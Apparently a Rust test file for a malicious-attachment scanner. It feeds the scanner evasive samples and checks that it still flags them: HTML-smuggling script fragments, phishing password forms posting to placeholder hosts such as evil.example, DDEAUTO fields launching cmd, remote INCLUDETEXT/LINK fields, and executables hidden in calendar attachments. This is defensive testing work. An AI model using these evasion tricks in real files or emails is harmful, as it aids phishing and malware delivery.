//! What stands behind something that one reader passes over: quotes in styles and comments, blanks,
//! lengths, numbers.

use super::office::{does, object};
use super::{deeds, facts, inside, letter, native, ole, ooxml, program};
use crate::support::base64;
use congthu::archive::Why;
use std::io::Write;

const BUILDS: &str = "<script>u=URL.createObjectURL(new Blob([b]));l.download='hd.exe'</script>";

#[test]
fn a_quote_in_a_text_of_a_page_hides_no_markup() {
    let names = [
        "style", "title", "textarea", "noscript", "iframe", "noembed", "noframes", "xmp", "SCRIPT",
    ];
    let elements = names.map(|name| (format!("<{name}>"), format!("</{name}>")));
    let pair = |(a, b): (&str, &str)| (a.to_owned(), b.to_owned());
    let others =
        [("<!--", "-->"), ("<!--", "--!>"), ("<![CDATA[", "]]>"), ("<?x", "?>"), ("<!x", ">")];
    for (begin, end) in elements.into_iter().chain(others.map(pair)) {
        for quote in ["\"", "'"] {
            let page = format!("<html>{begin} <p title={quote}{end}{BUILDS}{quote}>");
            let found = deeds("a.html", page.as_bytes());
            assert!(found.contains(&"smuggling@2".to_owned()), "{found:?} {page}");
            let form = "<form action='https://mail.example/'><input type=password></form>"
                .replace('\'', if quote == "'" { "\"" } else { "'" });
            let page = format!("<html>{begin} <p title={quote}{end}{form}{quote}>");
            let found = deeds("a.html", page.as_bytes());
            assert!(found.contains(&"credentials@2".to_owned()), "{found:?} {page}");
        }
    }
    let page = "<html><p title=\"a &lt;script> b > c\" data-x=\"<script>\">";
    assert_eq!(deeds("a.html", page.as_bytes()), Vec::<String>::new());
}

#[test]
fn markup_that_begins_again_and_again_is_told() {
    let page = "<style><p a=\"x\" b=\"</style ".repeat(2000);
    assert_eq!(deeds("a.html", page.as_bytes()), ["script@2"]);
}

#[test]
fn blanks_in_an_address_hide_nothing() {
    for blanks in ["", "\t", "&#9;", &"\n".repeat(5000), &"&Tab;".repeat(3000)] {
        let form = format!(
            "<html><form action=\"{blanks}ht{blanks}tps://mail.example\"><input type=password>"
        );
        assert_eq!(deeds("a.html", form.as_bytes()), ["credentials@2"], "{}", blanks.len());
        let frame = format!("<html><iframe src=' {blanks}https://mail.example/'></iframe>");
        assert_eq!(deeds("a.html", frame.as_bytes()), ["remote@2"], "{}", blanks.len());
        let file =
            format!("<html><a href=' {blanks}da{blanks}ta:,%4d%5a%90%00' download=a.exe></a>");
        assert_eq!(inside("a.html", file.as_bytes()), ["2/a.html/a.exe"], "{}", blanks.len());
        let link = format!("<html><a href=' {blanks}java{blanks}script:go()'></a>");
        assert_eq!(deeds("a.html", link.as_bytes()), ["script@2"], "{}", blanks.len());
        let meta =
            format!("<html><meta http-equiv=refresh content='0;{blanks}url=//mail.example'>");
        assert_eq!(deeds("a.html", meta.as_bytes()), ["script@2"], "{}", blanks.len());
    }
    let zeros = "0".repeat(5000);
    let meta = format!("<html><meta http-equiv=refresh content='0.{zeros};url=//mail.example'>");
    assert_eq!(deeds("a.html", meta.as_bytes()), ["script@2"]);
}

#[test]
fn a_frame_below_a_base_elsewhere_is_elsewhere() {
    let page = |base: &str| format!("<html><base href=\"{base}\"><iframe src=\"login\"></iframe>");
    assert_eq!(deeds("a.html", page("https://mail.example/").as_bytes()), ["remote@2"]);
    assert_eq!(deeds("a.html", page("/").as_bytes()), Vec::<String>::new());
}

#[test]
fn a_field_behind_blanks_is_a_field() {
    let document = |instruction: &str| {
        let xml = format!(
            "<w:document><w:fldChar w:fldCharType=\"begin\"/><w:instrText>{instruction}\
             </w:instrText><w:fldChar w:fldCharType=\"end\"/></w:document>"
        );
        ooxml("wordprocessingml.document", &[("word/document.xml", xml.as_bytes())])
    };
    for count in [1, 999, 1001, 5000, 70_000] {
        let blanks = " ".repeat(count);
        for (instruction, word) in [
            (format!("{blanks}DDEAUTO cmd \"/c a\""), "launch"),
            (format!("DDEAUTO{blanks}cmd \"/c a\""), "launch"),
            (format!("INCLUDETEXT{blanks}\"https://mail.example/a\""), "remote"),
            (format!("LINK a{blanks}\"https://mail.example/a\""), "template"),
            (format!("INCLUDETEXT {} \"https://mail.example/a\"", "\\x ".repeat(count)), "remote"),
            (format!("LINK a {} \"https://mail.example/a\"", "\\x ".repeat(count)), "template"),
        ] {
            does("a.docx", &document(&instruction), &[&format!("{word}@word/document.xml")]);
        }
    }
}

#[test]
fn objects_beyond_those_that_are_opened_are_told() {
    let small = object(b"Package", &native("a.txt", b"x")[4..]);
    let objects = |count| {
        let objects = format!("{{\\object{{\\*\\objdata {small}}}}}").repeat(count);
        let told = facts(letter("a.rtf", format!("{{\\rtf1 {objects}}}").as_bytes()));
        told.obstacles.len()
    };
    assert_eq!((objects(3), objects(2003)), (0, 1));
}

#[test]
fn macros_of_a_saved_page_that_are_no_such_are_told() {
    let page = |content: &str| {
        let page = format!(
            "MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=b\r\n\r\n--b\r\n\
             Content-Type: application/x-mso\r\nContent-Location: editdata.mso\r\n\r\n{content}\r\n--b--\r\n"
        );
        facts(letter("a.doc", page.as_bytes())).obstacles.len()
    };
    assert_eq!((page("ActiveXime, and something else"), page("\r\nActiveMime")), (1, 1));
}

#[test]
fn a_squeezed_part_in_front_hides_no_macros() {
    let squeezed = |bytes: &[u8]| {
        let mut out = flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::default());
        out.write_all(bytes).unwrap();
        out.finish().unwrap()
    };
    let real = squeezed(&ole(&[("VBA/a", b"x")]));
    let header = [b"ActiveMime".as_slice(), &[0; 0x28]].concat();
    for front in [squeezed(b"hello world, hello world"), b"\x78\x9c".repeat(100)] {
        let inside = inside("a.mso", &[&header[..], &front, &real].concat());
        assert_eq!(inside.first().map(String::as_str), Some("2/a.mso/macros.ole"), "{inside:?}");
        let facts = facts(letter("a.mso", &[&header[..], &front, &real].concat()));
        assert!(facts.parts.iter().any(|part| part.detected.extension == "ole"));
    }
}

/// Outlook makes a file of such a page, `ATT00001.htm`, and a browser opens it.
#[test]
fn a_page_behind_something_else_is_no_body() {
    let page = "<html><body onload=go()><form action=https://evil.example><input type=password></form></html>";
    let letter = |kind: &str, first: &str| {
        let mail = format!(
            "From: a@mail.example\r\nSubject: a\r\nMIME-Version: 1.0\r\nContent-Type: multipart/{kind}; boundary=b\r\n\r\n\
             --b\r\nContent-Type: {first}\r\n\r\nhello\r\n--b\r\nContent-Type: text/html\r\n\r\n{page}\r\n--b--\r\n"
        );
        super::words(&facts(mail.into_bytes()))
    };
    let acts = vec!["credentials@2".to_owned(), "script@2".to_owned()];
    for (kind, first, wanted) in [
        ("mixed", "text/plain", &acts),
        ("related", "text/html", &acts),
        ("mixed", "application/pdf; name=a.pdf", &acts),
        ("alternative", "text/plain", &Vec::new()),
    ] {
        let mut found = letter(kind, first);
        found.sort();
        assert_eq!(&found, wanted, "{kind} {first}");
    }
}

#[test]
fn folds_and_blanks_hide_no_calendar() {
    let exe = base64(&program()).replace('\n', "");
    let file = format!("ENCODING=BASE64;VALUE=BINARY;X-FILENAME=a.exe:{exe}");
    for text in [
        format!("BEGI\r\n N:VCALENDAR\r\nATTACH;{file}\r\n"),
        format!("BEGIN: VCALENDAR\r\nATTACH;{file}\r\n"),
        format!("BEGIN;X=1:VCALENDAR\r\nATTACH;{file}\r\n"),
        // `ATT` alone would be base64 of the line before.
        format!("BEGIN:VCALENDAR\r\nSUMMARY:hop\r\nATT\r\n ACH;{file}\r\n"),
        format!("BEGIN:VCALENDAR\r\nPHOTO;ENCODING=b:QUFB\r\nATT\r\n ACH;{file}\r\n"),
    ] {
        assert_eq!(inside("a.ics", text.as_bytes()), ["2/a.ics/a.exe"], "{}", &text[..60]);
        assert_eq!(inside("a.dat", text.as_bytes()), ["2/a.dat/a.exe"], "{}", &text[..60]);
    }
}

#[test]
fn a_calendar_of_more_values_than_are_looked_at_is_told() {
    let value = format!("K;B:{}\r\n", base64(&[0x81; 18]).replace('\n', ""));
    let text = format!("BEGIN:VCALENDAR\r\n{}", value.repeat(200_000));
    let facts = facts(letter("a.ics", text.as_bytes()));
    assert_eq!(
        facts.obstacles.iter().map(|told| told.trouble).collect::<Vec<_>>(),
        [Why::OverLimit]
    );
}

#[test]
fn nuls_in_its_header_make_a_letter_of_no_other_kind() {
    let inner = String::from_utf8(letter("a.exe", &program())).unwrap();
    for text in [inner.replacen("From", "Fr\0om", 1), format!("\0\0{inner}")] {
        for name in ["a.eml", "a.email", "a.nws"] {
            let found = inside(name, text.as_bytes());
            assert!(found.iter().any(|path| path.ends_with("/2")), "{name}: {found:?}");
        }
        assert_eq!(inside("a.dat", text.as_bytes()), Vec::<String>::new());
    }
}
